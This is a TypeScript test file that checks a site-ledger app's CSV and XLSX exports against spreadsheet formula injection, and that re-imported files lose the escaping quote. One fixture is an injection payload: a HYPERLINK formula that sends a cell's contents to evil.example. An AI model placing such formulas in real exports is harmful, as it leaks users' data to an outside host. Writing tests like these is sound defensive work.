// Spreadsheet formula injection (OWASP "CSV injection"): a cell that begins with = + - @ tab or CR
// is written with a leading ' in CSV, so =HYPERLINK(…) in a site's name is text in Excel and WPS, not a
// formula; numbers (coordinates) are left alone. The XLSX writes such text as a string cell.
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { bootTestApp, createSite, type Harness } from './helpers/app.ts';

let h: Harness;
const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")';
const ADDRESS = '+1 黄河路';
const NOTE = '@SUM(1+1)';
const UNIT = '-2+3';

beforeAll(async () => {
  h = bootTestApp();
  await createSite(h, { name: NAME, category: 'sand_yard', lon: 113.95, lat: 33.55, discoveredOn: '2021-01-10', address: ADDRESS, note: NOTE }, '411102');
  const site = await h.send<{ features: { id: number }[] }>('GET', '/api/sites?county=411102&located=true');
  const id = site.body.features[0]!.id;
  const edited = await h.send('PATCH', `/api/sites/${id}`, { version: 1, responsibleUnit: UNIT });
  expect(edited.status, edited.text).toBe(200);
});

describe('formula-looking text in exports', () => {
  it('CSV: prefixed with a quote mark; numbers untouched', async () => {
    const res = await h.request('/api/export?format=csv&county=411102&located=true');
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { bom: true, columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r['名称']!.includes('HYPERLINK'))!;
    expect(row['名称']).toBe(`'${NAME}`);
    expect(row['地址']).toBe(`'${ADDRESS}`);
    expect(row['备注']).toBe(`'${NOTE}`);
    expect(row['责任单位']).toBe(`'${UNIT}`);
    expect(row['经度']).toBe('113.95');
    for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('XLSX: the same text is a string cell, never a formula', async () => {
    const res = await h.request('/api/export?format=xlsx&county=411102&located=true');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await res.arrayBuffer());
    const sheet = book.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).map(String);
    const cell = sheet.getRow(2).getCell(header.indexOf('名称'));
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(NAME);
  });
});

describe('an exported ledger imports back', () => {
  it('the quote mark the CSV added is taken off again', async () => {
    const csv = await (await h.request('/api/export?format=csv&county=411102&located=true')).arrayBuffer();
    const form = new FormData();
    form.append('file', new Blob([csv], { type: 'text/csv' }), 'ledger.csv');
    form.append('options', JSON.stringify({}));
    const res = await h.request('/api/imports', { method: 'POST', body: form });
    const preview = (await res.json()) as { rows: { outcome: string; values?: { name?: string } }[] };
    expect(res.status, JSON.stringify(preview).slice(0, 300)).toBe(201);
    expect(JSON.stringify(preview)).toContain(JSON.stringify(NAME).slice(1, -1));
    expect(JSON.stringify(preview)).not.toContain(`'${NAME.slice(0, 10)}`);
  });
});
